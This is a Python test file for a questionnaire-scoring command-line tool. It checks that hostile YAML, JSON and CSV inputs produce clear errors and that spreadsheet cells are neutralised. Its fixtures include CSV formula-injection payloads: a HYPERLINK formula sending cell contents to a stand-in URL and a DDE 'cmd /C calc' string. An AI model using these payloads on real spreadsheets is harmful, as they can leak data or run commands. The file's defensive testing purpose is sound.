"""Bad input never crashes: a test per finding of the hardening issue (exports and input).

Broken scoring in a questionnaire is a named error with its line; hostile files given to the
command line get one clear message and a bounded amount of work, never a traceback; a CSV
batch writes its good rows and lists the bad ones; text cells cannot run as formulas.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest
from pydantic import ValidationError

import cli
from scoring.cells import neutralise, neutralise_array, neutralise_frame, neutralise_series
from scoring.loader import MAX_DEPTH, QuestionnaireError, load_questionnaire
from scoring.model import FIRM_NAME_MAX, FirmProfile
from tests.cli_helpers import run_cli
from tests.conftest import TINY, load_yaml

ROOT = Path(__file__).resolve().parent.parent
PROBLEM = re.compile(r"^(?P<file>[^:]+):(?P<line>\d+): (?P<path>\S+): (?P<message>.+)$")


def problems_of(text: str) -> list[str]:
    with pytest.raises(QuestionnaireError) as info:
        load_yaml(text, "bad.yaml")
    return [str(p) for p in info.value.problems]


def line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(textwrap.dedent(text).splitlines(), 1) if needle in line)


# ------------------------------------------------------------------ broken scoring in YAML

YES = '{id: "yes", points: 4, uses: [ecommerce]}'

BROKEN_SCORING = {
    "points .nan": (TINY.replace(YES, '{id: "yes", points: .nan, uses: [ecommerce]}'), "points: .nan",
                    "pillars[0].questions[0].options[0].points", "finite number"),
    "negative points": (TINY.replace(YES, '{id: "yes", points: -5, uses: [ecommerce]}'), "points: -5",
                        "pillars[0].questions[0].options[0].points", "greater than or equal to 0"),
    "points .inf": (TINY.replace(YES, '{id: "yes", points: .inf, uses: [ecommerce]}'), "points: .inf",
                    "pillars[0].questions[0].options[0].points", "finite number"),
    "total_above .nan": (TINY.replace("total_above: 4", "total_above: .nan"), "total_above: .nan",
                         "rules.overall.requirements[0].total_above", "finite number"),
    "max_length -1": (TINY.replace("      - id: notes\n        type: text\n",
                                   "      - id: notes\n        type: text\n        max_length: -1\n"),
                      "max_length: -1", "pillars[1].questions[3].max_length", "greater than or equal to 1"),
    "yes/no option maybe": (TINY.replace(YES, YES + '\n          - {id: maybe, points: 2}'), "{id: maybe",
                            "pillars[0].questions[0].options[1].id", "offers only yes and no, not 'maybe'"),
    "duplicate key": (TINY.replace("        type: yesno\n", "        type: yesno\n        type: single\n", 1),
                      "type: single", "pillars[0].questions[0].type", "key 'type' given twice"),
    "levels out of order": (
        TINY.replace("  - {level: 0, name: {vi: Chưa, en: None}, meaning: {vi: Chưa bắt đầu, en: Not started}}\n", "")
        .replace("  - {level: 2, name:", "  - {level: 0, name: {vi: Chưa, en: None}, meaning: {vi: Chưa bắt đầu, en: Not started}}\n  - {level: 2, name:"),
        "{level: 1, name:", "levels[0].level", "listed as 0, 1, 2, … in order"),
    "pillar weight .inf": (TINY.replace("    weight: 2\n", "    weight: .inf\n"), "weight: .inf",
                           "pillars[1].weight", "finite number"),
    "band points .nan": (TINY.replace("{from: 10, points: 2}", "{from: 10, points: .nan}"), "{from: 10, points: .nan}",
                         "pillars[1].questions[1].bands[1].points", "finite number"),
    "share max_points -4": (TINY.replace("max_points: 4", "max_points: -4"), "max_points: -4",
                            "pillars[0].questions[2].max_points", "greater than or equal to 0"),
    "scale of 2000 steps": (TINY.replace("        min: 0\n        max: 4\n", "        min: -1000\n        max: 1000\n"),
                            "max: 1000", "pillars[1].questions[0].max", "at most 100 steps"),
    "total_percent_above 150": (TINY.replace("total_percent_above: 70", "total_percent_above: 150"),
                                "total_percent_above: 150", "rules.overall.requirements[1].total_percent_above",
                                "less than or equal to 100"),
}


@pytest.mark.parametrize("case", list(BROKEN_SCORING))
def test_broken_scoring_is_a_named_error_with_its_line(case):
    text, line_text, path, message = BROKEN_SCORING[case]
    assert text != TINY, "the case must change the file"
    found = problems_of(text)
    assert len(found) == 1, found
    match = PROBLEM.match(found[0])
    assert match, found[0]
    assert match["file"] == "bad.yaml" and match["path"] == path and message in match["message"], found[0]
    assert int(match["line"]) == line_of(text, line_text), found[0]


def test_yes_no_without_the_maybe_still_loads(tiny):
    assert [o.id for o in tiny.question("has_site").options] == ["yes", "no"]


# ------------------------------------------------------------------ hostile YAML files


def test_yaml_nested_500_levels_in_a_one_kb_file(tmp_path):
    path = tmp_path / "deep.yaml"
    path.write_text("a: " + "[" * 500 + "]" * 500 + "\n")
    assert path.stat().st_size < 1100
    with pytest.raises(QuestionnaireError) as info:
        load_questionnaire(path)
    assert str(info.value) == f"{path}:1: (top): not valid YAML: nested deeper than {MAX_DEPTH} levels"


def test_yaml_nested_in_block_style_names_its_line():
    text = "a:\n" + "".join("  " * i + "- \n" for i in range(1, 300))
    (found,) = problems_of(text)
    assert found == f"bad.yaml:{MAX_DEPTH + 1}: (top): not valid YAML: nested deeper than {MAX_DEPTH} levels"


def test_aliases_cannot_nest_deeper_than_the_text():
    chain = "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}]\n" for i in range(1, 60))
    (found,) = problems_of(chain)
    assert "nested deeper than" in found and "after expanding aliases" in found


def test_an_alias_inside_itself_is_refused():
    (found,) = problems_of("a: &a [1, *a]\n")
    assert found == "bad.yaml:1: (top): an alias refers to a node that contains it"


def test_an_integer_of_5000_digits_in_yaml():
    (found,) = problems_of("id: " + "9" * 5000 + "\n")
    assert found == "bad.yaml:1: (top): not valid YAML: a number has too many digits"


def test_a_control_character_names_its_line():
    (found,) = problems_of("id: x\nversion: \x07\n")
    assert found.startswith("bad.yaml:2: (top): not valid YAML: unacceptable character #x0007")


def test_duplicate_keys_are_found_in_catalogue_files_too(tmp_path):
    from scoring.profile import ProfileError, load_profile

    source = ROOT / "questionnaires" / "reference" / "profile.yaml"
    lines = source.read_text(encoding="utf-8").splitlines()
    first_key = next(i for i, line in enumerate(lines) if re.match(r"^[a-z_]+:", line))
    lines.insert(first_key + 1, lines[first_key])  # the same top-level key again, right after
    path = tmp_path / "profile.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(ProfileError) as info:
        load_profile(path)
    assert f"{path}:{first_key + 2}: " in str(info.value) and "given twice" in str(info.value)


# ------------------------------------------------------------------ the firm name


def test_firm_profile_bounds_the_name():
    assert FirmProfile(name="x" * FIRM_NAME_MAX).name == "x" * FIRM_NAME_MAX
    with pytest.raises(ValidationError):
        FirmProfile(name="x" * 1_000_000)


def test_report_refuses_a_million_character_name_before_rendering(tmp_path, monkeypatch):
    import report

    monkeypatch.setattr(report, "render_pdf", lambda *a, **k: pytest.fail("render_pdf must not be called"))
    answers = tmp_path / "a.json"
    answers.write_text("{}")
    done = run_cli("report", "quick_check", str(answers), "-o", str(tmp_path / "r.pdf"), "--name", "x" * 1_000_000)
    assert done.returncode == 2  # argparse: a bad argument
    err = done.stderr
    assert f"argument --name: at most {FIRM_NAME_MAX} characters, got 1,000,000" in err
    assert len(err) < 2000 and "Traceback" not in err
    assert not (tmp_path / "r.pdf").exists()


def test_bad_staff_and_province_are_argument_errors(tmp_path):
    answers = tmp_path / "a.json"
    answers.write_text("{}")
    for extra, message in ((["--staff", "-3"], "number of staff from 0"), (["--staff", "9" * 400], "number of staff from 0"),
                           (["--province", "atlantis"], "no province 'atlantis'")):
        done = run_cli("recommend", "quick_check", str(answers), *extra)
        assert done.returncode == 2 and message in done.stderr


# ------------------------------------------------------------------ hostile answer files

HOSTILE_JSON = {
    "nested 100,000 levels": (b"[" * 100_000 + b"]" * 100_000, "not valid JSON: nested too deeply"),
    "Latin-1": ('{"has_site": "có"}'.encode("latin-1"), "not UTF-8 text (byte 0xf3 at position 15); save it as UTF-8"),
    "UTF-16": ('{"has_site": "yes"}'.encode("utf-16"), "UTF-16 or UTF-32 text; save it as UTF-8"),
    "UTF-16 without a BOM": ('{"has_site": "yes"}'.encode("utf-16-le"), "UTF-16 or UTF-32 text; save it as UTF-8"),
    "400-digit integer": (b'{"online_share": ' + b"9" * 400 + b"}", "a number of 400 digits (at most 30)"),
    "5000-digit integer": (b'{"online_share": ' + b"9" * 5000 + b"}", "a number of 5000 digits (at most 30)"),
    "1e400": (b'{"online_share": 1e400}', "the number 1e400 is out of range"),
    "NaN": (b'{"online_share": NaN}', "NaN is not a number JSON allows"),
    "a list of lists": (b'{"channels": [["zalo"]]}', "channels: expected a list of option ids"),
    "a matrix of numbers": (b'{"practices": {"backup": [1]}}', "practices: expected {row: option id}"),
    "a million-character option": (b'{"has_site": "' + b"y" * 1_000_000 + b'"}', "has_site: 1,000,000 characters; at most 200"),
    "a million-character key": (b'{"' + b"k" * 1_000_000 + b'": 1}', "no question has an id of 1,000,000 characters"),
    "not an object": (b"[1, 2]", "expected a JSON object"),
    "empty": (b"", "not valid JSON: Expecting value"),
}


@pytest.fixture()
def tiny_file(tmp_path) -> Path:
    path = tmp_path / "tiny.yaml"
    path.write_text(textwrap.dedent(TINY), encoding="utf-8")
    return path


@pytest.mark.parametrize("case", list(HOSTILE_JSON))
@pytest.mark.parametrize("command", ["score", "recommend", "report"])
def test_hostile_answer_files_get_one_clear_message(case, command, tiny_file, tmp_path):
    content, message = HOSTILE_JSON[case]
    path = tmp_path / "answers.json"
    path.write_bytes(content)
    extra = ["-o", str(tmp_path / "r.pdf")] if command == "report" else []
    questionnaire = "quick_check" if command != "score" else str(tiny_file)
    done = run_cli(command, questionnaire, str(path), *extra)
    assert done.returncode == 1
    err = done.stderr
    assert message in err, err
    assert err.startswith(f"{path}: ") and len(err) < 2000 and "Traceback" not in err


def test_a_real_process_prints_no_traceback(tiny_file, tmp_path):
    """The same, as a user runs it: a separate interpreter, its real stack and recursion limit."""
    path = tmp_path / "deep.json"
    path.write_bytes(b"[" * 100_000 + b"]" * 100_000)
    done = subprocess.run([sys.executable, "cli.py", "score", str(tiny_file), str(path)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and done.stderr == f"{path}: not valid JSON: nested too deeply\n"


def test_an_unexpected_error_is_one_line_and_exit_70(monkeypatch, tiny_file):
    import commands.scoring as scoring_commands

    def boom(q):
        raise RuntimeError("something nobody expected\nsecond line")

    monkeypatch.setattr(scoring_commands, "describe", boom)
    monkeypatch.delenv("SME_DEBUG", raising=False)
    done = run_cli("describe", str(tiny_file))
    assert done.returncode == cli.INTERNAL_ERROR
    err = done.stderr
    assert err.count("\n") == 1 and "internal error (RuntimeError: something nobody expected)" in err


# ------------------------------------------------------------------ score --csv


HEADER = "firm,has_site,site_updates,channels,skill,online_share,practices,note"
GOOD_A = "A,yes,weekly,zalo|fb,4,60,backup=fully;passwords=fully,=HYPERLINK(\"http://x/?\"&A1)"
GOOD_B = "B,no,,none,0,na,backup=no;passwords=no,+cmd|' /C calc'!A0"
BAD_OPTION = "C,perhaps,,none,0,na,backup=no;passwords=no,fine"
BAD_CELLS = "D,no,,none,0,na,backup=no;passwords=no,fine,one too many"
BAD_TWO = "@E,no,,none,9,na,backup=no,-1+1"


def run_csv(tiny_file, tmp_path, lines: list[str], *extra: str) -> tuple[int, str, Path]:
    source = tmp_path / "many.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "scored.csv"
    done = run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(out), *extra)
    return done.returncode, done.stderr, out


def read_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_a_batch_writes_the_good_rows_and_lists_the_bad_ones(tiny_file, tmp_path):
    lines = [HEADER, GOOD_A, BAD_OPTION, GOOD_B, BAD_CELLS, BAD_TWO]
    code, err, out = run_csv(tiny_file, tmp_path, lines)
    assert code == 3
    scored = read_rows(out)
    assert [r["firm"] for r in scored] == ["A", "B"]
    assert [r["overall_level"] for r in scored] == ["2", "0"]
    errors = read_rows(tmp_path / "scored.errors.csv")
    assert [(e["row"], e["column"], e["why"]) for e in errors] == [
        ("2", "has_site", "option 'perhaps' is not offered"),
        ("4", "", "expected 8 cells, found 9"),
        ("5", "skill", "9 is outside 0–4"),
        ("5", "practices", "practices.passwords: row not answered"),
    ]
    assert "2 rows scored" in err and "3 rows failed (4 problems)" in err and "scored.errors.csv" in err


def test_a_batch_neutralises_formulas_in_copied_columns_and_names(tiny_file, tmp_path):
    lines = [HEADER.replace("note", "=cmd|note"), GOOD_A, GOOD_B]
    code, _, out = run_csv(tiny_file, tmp_path, lines)
    assert code == 0
    scored = read_rows(out)
    assert list(scored[0])[:2] == ["firm", "'=cmd|note"]
    assert [r["'=cmd|note"] for r in scored] == ["'=HYPERLINK(\"http://x/?\"&A1)", "'+cmd|' /C calc'!A0"]
    assert not (tmp_path / "scored.errors.csv").exists()


def test_every_row_bad_still_writes_a_header_and_exit_3(tiny_file, tmp_path):
    code, _, out = run_csv(tiny_file, tmp_path, [HEADER, BAD_OPTION, BAD_TWO], "--errors", str(tmp_path / "e.csv"))
    assert code == 3
    assert read_rows(out) == [] and out.read_text().startswith('"firm","note"')
    errors = read_rows(tmp_path / "e.csv")
    assert [e["row"] for e in errors] == ["1", "2", "2"]
    assert errors[-1]["why"] == "practices.passwords: row not answered"


def test_a_batch_error_file_cannot_run_formulas(tiny_file, tmp_path):
    row = GOOD_B.replace("B,no,,none,0,", "B,=1+1,,none,-5,")
    code, _, _ = run_csv(tiny_file, tmp_path, [HEADER, row])
    assert code == 3
    errors = read_rows(tmp_path / "scored.errors.csv")
    assert [e["why"] for e in errors] == [
        "option '=1+1' is not offered",  # starts with a letter: safe as it is
        "'-5 is outside 0–4",  # would start with a minus: neutralised
    ]


def test_a_batch_keeps_quoted_line_breaks_and_a_bom(tiny_file, tmp_path):
    source = tmp_path / "excel.csv"
    source.write_bytes(("\ufeff" + HEADER + "\n" + GOOD_A.replace(',=HYPERLINK("http://x/?"&A1)', ',"two\nlines"') + "\n").encode())
    out = tmp_path / "o.csv"
    assert run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(out)).returncode == 0
    (row,) = read_rows(out)
    assert row["firm"] == "A" and row["note"] == "two\nlines" and row["total"] == "24"


def test_a_quoted_header_alone_still_lets_the_fast_reader_split_anywhere(tmp_path):
    from commands.csv_batch import _has_quotes

    plain = tmp_path / "plain.csv"
    plain.write_text('"firm","note"\nA,x\nB,y\n', encoding="utf-8")
    assert _has_quotes(str(plain)) is False  # only the header is quoted (pyarrow and some exporters do)
    later = tmp_path / "later.csv"
    later.write_text('"firm","note"\nA,x\nB,"y"\n', encoding="utf-8")
    assert _has_quotes(str(later)) is True
    open_header = tmp_path / "open.csv"
    open_header.write_text('firm,"two\nline name"\nA,x\n', encoding="utf-8")
    assert _has_quotes(str(open_header)) is True  # a quote left open across the first line end


def test_a_quoted_header_with_a_line_break_in_a_name_reads_right(tiny_file, tmp_path):
    names = HEADER.split(",")
    source = tmp_path / "h.csv"
    header = ",".join(f'"{n}"' for n in names[:-1]) + ',"free\nnote"'  # the last name spans two lines
    source.write_text(header + "\n" + GOOD_B.replace(",+cmd|' /C calc'!A0", ",kept") + "\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    assert run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(out)).returncode == 0
    (row,) = read_rows(out)
    assert row["firm"] == "B" and row["free\nnote"] == "kept" and row["total"].isdigit()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("firm,has_site\nA,c\xf3\n".encode("latin-1"), "not UTF-8 text: save the file as CSV UTF-8"),
        ("firm,has_site\n".encode("utf-16"), "not UTF-8 text"),
        (b"", "the file is empty: the first line must name the columns"),
        (b"firm,has_site,firm\nA,yes,B\n", "column 'firm' appears twice in the header"),
    ],
)
def test_a_broken_csv_file_is_one_clear_message(tiny_file, tmp_path, content, message):
    source = tmp_path / "many.csv"
    source.write_bytes(content)
    done = run_cli("score", str(tiny_file), "--csv", str(source), "-o", str(tmp_path / "o.csv"))
    assert done.returncode == 1
    err = done.stderr
    assert err == f"{source}: {message}\n" or (message in err and err.startswith(f"{source}: ")), err


def test_a_missing_required_column_is_noted(tiny_file, tmp_path):
    code, err, _ = run_csv(tiny_file, tmp_path, ["firm,has_site", "A,yes"])
    assert code == 3
    assert "no column for 5 required questions: site_updates, channels, skill, online_share, practices" in err


def test_a_batch_scores_the_same_as_one_by_one(tiny_file, tmp_path):
    """The good rows of a mixed file carry the numbers the single path gives."""
    from scoring.engine import score_assessment

    tiny = load_questionnaire(tiny_file)
    _, _, out = run_csv(tiny_file, tmp_path, [HEADER, GOOD_A, BAD_OPTION, GOOD_B])
    scored = read_rows(out)
    single = score_assessment(tiny, {"has_site": "no", "channels": ["none"], "skill": 0, "online_share": "na",
                                     "practices": {"backup": "no", "passwords": "no"}})
    assert float(scored[1]["total"]) == single.total and int(scored[1]["overall_level"]) == single.overall_level


# ------------------------------------------------------------------ the neutraliser


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-1+1", "@SUM(A1)", "\t=x", "\r=x", '=HYPERLINK("http://x")', "-",
                                  "+84912345678", "-5"])
def test_formula_like_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text  # a number typed as text too: one simple rule


@pytest.mark.parametrize("value", ["Công ty ABC", "1.5e3", "", None, 7, -3.5, True, "a=b", " =x"])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) is value


def test_columns_and_frames_neutralise_alike():
    values = ["=a", "b", "-3", None, "@x"]
    expected = [neutralise(v) for v in values]
    assert neutralise_series(pd.Series(values, dtype=object)).tolist() == expected
    assert neutralise_series(pd.Series(values, dtype="string")).tolist()[:3] == expected[:3]
    cat = neutralise_series(pd.Series(values, dtype="category"))
    assert isinstance(cat.dtype, pd.CategoricalDtype) and cat.astype(object).where(cat.notna(), None).tolist() == expected
    both = neutralise_series(pd.Series(["=a", "'=a"], dtype="category"))
    assert both.tolist() == ["'=a", "'=a"]
    frame = pd.DataFrame({"t": ["=x"], "n": [-1.0]})
    assert neutralise_frame(frame).to_dict("list") == {"t": ["'=x"], "n": [-1.0]}
    assert frame.loc[0, "t"] == "=x"  # the input is kept


def test_arrow_and_python_neutralise_alike():
    import pyarrow as pa

    values = ["=1+1", "+cmd", "-1+1", "@SUM(A1)", "\tx", "\rx", "-5", "+84912345678", "ok", "", None, "-", "a=b"]
    assert neutralise_array(pa.array(values, pa.string())).to_pylist() == [neutralise(v) for v in values]
    chunked = pa.chunked_array([values[:4], values[4:]], pa.string())
    assert neutralise_array(chunked).to_pylist() == [neutralise(v) for v in values]
    assert neutralise_array(pa.array([1, -2])).to_pylist() == [1, -2]


def test_json_output_keeps_unicode(tiny_file, tmp_path):
    path = tmp_path / "a.json"
    path.write_bytes(json.dumps({"notes": "Ghi chú"}, ensure_ascii=False).encode("utf-8-sig"))  # with a BOM
    done = run_cli("score", str(tiny_file), str(path))
    assert done.returncode == 1 and "required answer missing" in done.stderr  # required answers missing: listed
